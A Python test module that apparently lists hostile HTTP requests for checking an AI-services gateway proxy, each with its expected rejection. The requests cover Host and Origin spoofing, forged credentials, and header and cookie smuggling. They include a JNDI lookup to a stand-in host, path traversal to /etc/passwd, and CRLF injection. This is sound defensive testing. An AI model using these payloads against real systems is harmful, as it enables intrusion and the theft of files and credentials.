"""Games with names, origins, credentials, cookies and the fields by which a proxy is told things."""

from collections.abc import Iterator

from tests.gateway.hostile import Case, request

_VERSION = ("GET", "/api/version")
_TAGS = "/ollama/api/tags"
_PULL = "/ollama/api/pull"

HOSTS = (
    Case("Host missing", request("GET", _TAGS, host=""), says=(400,)),
    Case("Host twice", request("GET", _TAGS, "Host: ai-services.local"), says=(400,)),
    Case("Host twice, another one", request("GET", _TAGS, "Host: other.example"), says=(400,)),
    Case("Host twice, folded", request("GET", _TAGS, host="ai-services.local\r\n other.example")),
    *(
        Case(f"Host {host!r}", request("GET", _TAGS, host=host))
        for host in (
            "other.example",
            "localhost",
            "127.0.0.1",
            "127.0.0.11:11434",
            "ollama-backend",
            "ai-services.local.other.example",
            "other.ai-services.local",
            "xai-services.local",
            "ai-services.local@other.example",
            "other.example@ai-services.local",
            "ai-services.local, other.example",
            "ai-services.local other.example",
            "ai-services.local/ollama",
            "ai-services.local/../x",
            "ai-services.local\\@other.example",
            "ai-services.local#",
            "ai-services.local?x",
            "ai-services.local%00",
            "[::1]",
            "[::1",
            "*",
            "_",
            "a" * 300,
            "http://ai-services.local",
            "ai-services%2elocal",
        )
    ),
    Case("other name in the address than in Host", request("GET", f"https://other.example{_TAGS}"), says=(421,)),
    # The address counts, and Host is to be ignored (RFC 9112, 3.2.2).
    Case(
        "other name in Host than in the address",
        request("GET", f"https://ai-services.local{_TAGS}", host="other.example"),
        (("GET", "/api/tags"),),
    ),
    # A port is no part of the name.
    *(
        Case(f"Host {host!r}", request("GET", _TAGS, host=host), (("GET", "/api/tags"),))
        for host in ("ai-services.local:99999999", "ai-services.local:x", "AI-Services.LOCAL", "ai-services.local.")
    ),
    Case("X-Forwarded-Host", request("GET", "/ollama/api/version", "X-Forwarded-Host: other.example"), (_VERSION,)),
)
"""The fields of what may pass are looked at anyway: engines get the gateway's name and no other (see `sober`)."""

FOREIGN = (
    "null",
    "http://ai-services.local",
    "https://other.example",
    "https://ai-services.local.other.example",
    "https://other.ai-services.local",
    "https://xai-services.local",
    "https://ai-services.localx",
    "https://ai-services.local:1",
    "https://ai-services.local@other.example",
    "https://other.example/https://ai-services.local",
    "https://other.example#ai-services.local",
    "https://ai-services.local, https://other.example",
    "https://other.example https://ai-services.local",
    "https://AI-services.local.other.example",
    "https://ai-services.local%00.other.example",
    "file://",
    "chrome-extension://x",
    "ai-services.local",
    "//ai-services.local",
    "https://ai_services.local",
    "*",
)
_UPGRADE = (
    "Upgrade: websocket",
    "Connection: Upgrade",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
)


def _origins() -> Iterator[Case]:
    for origin in FOREIGN:
        field = f"Origin: {origin}"
        yield Case(f"Origin {origin}", request("POST", "/ollama/api/generate", field, body=b"{}"), says=(403,))
        yield Case(
            f"websocket, Origin {origin}", request("GET", "/comfyui/ws", field, *_UPGRADE, keep=True), says=(403,)
        )
    yield Case("preflight", request("OPTIONS", "/ollama/api/generate", f"Origin: {FOREIGN[2]}", key="", body=b""))
    yield Case(
        "Origin twice",
        request("POST", "/ollama/api/generate", f"Origin: {FOREIGN[2]}", f"Origin: {FOREIGN[1]}", body=b"{}"),
    )


ORIGINS = tuple(_origins())

CREDENTIALS = tuple(
    Case(f"credential: {name}", request("GET", _TAGS, *fields, key=""), says=(401,))
    for name, *fields in (
        ("none",),
        ("none, websocket", *_UPGRADE[:1]),
        ("no word", "Authorization:"),
        ("word alone", "Authorization: Bearer"),
        ("word and blank", "Authorization: Bearer "),
        ("other word", "Authorization: Token @use@"),
        ("no word before it", "Authorization: @use@"),
        ("two blanks", "Authorization: Bearer  @use@"),
        ("something behind", "Authorization: Bearer @use@x"),
        ("something behind a blank", "Authorization: Bearer @use@ x"),
        ("list", "Authorization: Bearer @use@, Bearer @operate@"),
        ("capitals", "Authorization: Bearer @use-in-capitals@"),
        ("id alone", "Authorization: Bearer @use-id@"),
        ("id and another's secret", "Authorization: Bearer @use-id-operate-secret@"),
        ("id and no secret", f"Authorization: Bearer @use-id@_{43 * 'A'}"),
        ("the stored hash", "Authorization: Bearer @use-hash@"),
        ("id and the stored hash", "Authorization: Bearer @use-id@_@use-hash@"),
        ("unknown id", f"Authorization: Bearer ipex_00000000_{43 * 'A'}"),
        ("pipes", "Authorization: Bearer ipex_|@use@|"),
        ("variable", "Authorization: Bearer $ipex_key"),
        ("huge", f"Authorization: Bearer {7000 * 'a'}"),
        ("in a cookie", "Cookie: authorization=@use@; key=@use@"),
        ("X-Api-Key empty", "X-Api-Key:"),
        ("X-Api-Key with the word", "X-Api-Key: Bearer @use@"),
        ("X-Api-Key wrong", f"X-Api-Key: ipex_00000000_{43 * 'A'}"),
        ("X-Api-Key cut", "X-Api-Key: @use-cut@"),
        ("X_Api_Key", "X_Api_Key: @use@"),
        ("Proxy-Authorization", "Proxy-Authorization: Bearer @use@"),
        ("X-Ipex-Client", "X-Ipex-Client: operate", "X-Remote-User: operate", "Remote-User: operate"),
        ("certificate in a field", "X-SSL-Client-Verify: SUCCESS", "X-SSL-Client-S-DN: CN=operate"),
        ("key as a password", "Authorization: Basic @basic-use-key@"),
        ("key as a name", "Authorization: Basic @basic-key@"),
        ("name without a password", "Authorization: Basic @basic-use-empty@"),
        ("name and the stored password", "Authorization: Basic @basic-use-hash@"),
        ("name of nobody", "Authorization: Basic @basic-nobody@"),
        ("empty name", "Authorization: Basic Og=="),
        ("no base64", "Authorization: Basic !!!!"),
        ("name with a NUL", "Authorization: Basic dXNlADp4"),
        ("name with a line", "Authorization: Basic dXNlCjp4"),
        ("digest", 'Authorization: Digest username="operate", realm="x", nonce="", uri="/", response=""'),
        ("negotiation", "Authorization: Negotiate AAAA"),
    )
)
"""None of these is a credential."""

MIXED = (
    Case("Authorization twice", request("POST", _PULL, "Authorization: Bearer @operate@", body=b"{}")),
    Case("Authorization twice, the wrong one first", request("GET", _TAGS, "Authorization: Bearer @use@", key="wrong")),
    Case("key in the address", request("GET", f"{_TAGS}?key=@use@&api_key=@use@&token=@use@", key=""), says=(401,)),
    Case("key in the name", request("GET", f"https://@use@@ai-services.local{_TAGS}", key="")),
    Case(
        "key for inference and a name that may operate",
        request("POST", _PULL, "X-Remote-User: operate", body=b"{}"),
        says=(403,),
    ),
    Case("key that may look asks an engine", request("GET", _TAGS, key="look"), says=(403,)),
    Case(
        "key that may operate asks for inference",
        request("POST", "/ollama/api/generate", key="operate", body=b"{}"),
        says=(403,),
    ),
    Case("two X-Api-Key", request("POST", _PULL, "X-Api-Key: @use@", "X-Api-Key: @operate@", key="", body=b"{}")),
)

TOLD = tuple(
    Case(
        f"told by {field.partition(':')[0]}: {field.partition(': ')[2]}",
        request("GET", "/ollama/api/version", field),
        (_VERSION,),
    )
    for field in (
        "X-Original-URL: /ollama/api/pull",
        "X-Rewrite-URL: /ollama/api/pull",
        "X-Original-Host: other.example",
        "X-Forwarded-Path: /ollama/api/pull",
        "X-Forwarded-Prefix: /x",
        "X-Forwarded-For: 127.0.0.1",
        "X-Real-IP: 127.0.0.1",
        "True-Client-IP: 127.0.0.1",
        "Client-IP: 127.0.0.1",
        "Forwarded: for=127.0.0.1;host=other.example;proto=http",
        "X-Forwarded-Proto: http",
        "X-Forwarded-Port: 11434",
        "X-Forwarded-Server: other.example",
        "X-Accel-Redirect: /ollama/api/pull",
        "X-Sendfile: /etc/passwd",
        "X-Request-Id: injected",
        "X-Ipex-Node: gpu-01",
        "Upgrade: h2c",
        "\r\n".join(_UPGRADE),
        "Upgrade: websocket, h2c",
        "Upgrade: TLS/1.0",
        "HTTP2-Settings: AAMAAABkAAQAAP__",
        "Connection: close, Authorization, Host",
        "Connection: Upgrade, HTTP2-Settings",
        "Connection: X-Forwarded-For",
        "Keep-Alive: timeout=999999",
        "TE: trailers, chunked",
        "Trailer: Authorization",
        "Range: bytes=0-0,1-1,2-2,3-3",
        "If-Match: *",
        "Max-Forwards: 0",
        "Via: 1.1 x",
        "Expect: 100-continue",
        "Content-Type: text/plain\r\nContent-Encoding: gzip",
        "X: ${jndi:ldap://other.example/}",
        'User-Agent: "}{"key":"operate"',
        "Referer: https://other.example/",
        "Cookie: ipex_comfyui=gpu-01",
        "Origin: https://ai-services.local:@tls-port@",
        "Authorization;: Bearer @operate@",
    )
)
"""The request may pass; what it tells must change nothing."""

COOKIES = tuple(
    Case(
        f"cookie {value[:40]!r}",
        request("GET", "/comfyui/system_stats", f"Cookie: ipex_comfyui={value}"),
        (("GET", "/system_stats"),),
    )
    for value in (
        "gpu-99",
        "127.0.0.1:22",
        "other.example",
        "ollama-backend",
        "ipex-prometheus",
        "gpu-01:80/",
        "../gpu-01",
        "$ipex_key",
        "gpu-01 new",
        "gpu-01; ipex_comfyui=gpu-02",
        '"gpu-01"',
        "gpu-01%0d%0aX: y",
        "",
        "x" * 3000,
    )
)

INNER = tuple(
    Case(f"{method} {target}, {key or 'nobody'} from outside", request(method, target, *fields, key=key), says=says)
    for method, target, fields, key, says in (
        ("GET", "/ipex-upstreams", (), "look", None),
        ("GET", "/ipex-upstreams", ("X-Forwarded-For: 127.0.0.1",), "operate", None),
        ("GET", "/%69pex-upstreams", (), "operate", None),
        ("GET", "/stub_status", (), "operate", None),
        ("GET", "/ipex-refused", (), "operate", None),
        ("GET", "/ipex-refused", (), "", (401,)),
        ("GET", "/@ipex_error", (), "operate", None),
        ("GET", "/fleet.json", (), "", (401,)),
        ("GET", "/fleet.json", (), "use", (403,)),
        ("GET", "/", (), "", (401,)),
        ("GET", "/assets/../../../etc/passwd", (), "look", None),
        ("GET", "/assets../nginx.conf", (), "look", None),
        ("GET", "/assets/%2e%2e/%2e%2e/etc/passwd", (), "look", None),
        ("GET", "/.git/config", (), "look", None),
        ("GET", "/.well-known/acme-challenge/../../ollama/api/tags", (), "", None),
        ("GET", "/prometheus/-/quit", (), "use", (403,)),
        ("POST", "/prometheus/-/quit", (), "look", None),
        ("PUT", "/prometheus/-/reload", (), "look", None),
        ("POST", "/prometheus/api/v1/admin/tsdb/delete_series", (), "look", None),
        ("GET", "/prometheus/debug/pprof/heap", (), "look", None),
        ("GET", "/prometheus/../prometheus/debug/pprof/heap", (), "look", None),
        ("GET", "/prometheus/%64ebug/pprof/heap", (), "look", None),
        ("GET", "/prometheus//debug/pprof/heap", (), "look", None),
        ("GET", "/prometheus/", (), "", (401,)),
        ("GET", "/grafana/", (), "", (401,)),
        ("GET", "/grafana/", (), "use", (403,)),
        ("GET", "/grafana/public/plugins/x/../../../../../etc/passwd", (), "look", None),
        ("GET", "/grafana/public/plugins/x/..%2f..%2f..%2fetc/passwd", (), "look", None),
        ("GET", "/ollama/debug/pprof/", (), "operate", None),
        ("GET", "/ollama/metrics", (), "operate", None),
        ("POST", "/ollama/api/experimental/web_fetch", (), "operate", None),
        ("POST", "/ollama/api/signout", (), "operate", None),
        ("POST", "/ollama/api/me", (), "operate", None),
    )
)
CASES = (*HOSTS, *ORIGINS, *CREDENTIALS, *MIXED, *TOLD, *COOKIES, *INNER)
